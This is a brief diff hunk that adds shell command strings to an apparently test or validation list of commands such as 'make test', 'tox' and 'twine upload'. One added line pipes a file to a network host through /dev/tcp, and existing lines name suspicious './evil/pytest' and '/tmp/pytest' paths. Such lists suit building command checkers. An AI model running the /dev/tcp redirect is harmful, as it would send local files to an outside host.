@@ -211,6 +211,11 @@ uv run
 twine upload dist/x
 timeout 5 env
 exec 3>x
+make test > log deploy
+cat a > /dev/tcp/host/80 b
+make -C deploy test deploy
+tox -erelease test
+echo >&-
 git
 ./evil/pytest
 /tmp/pytest
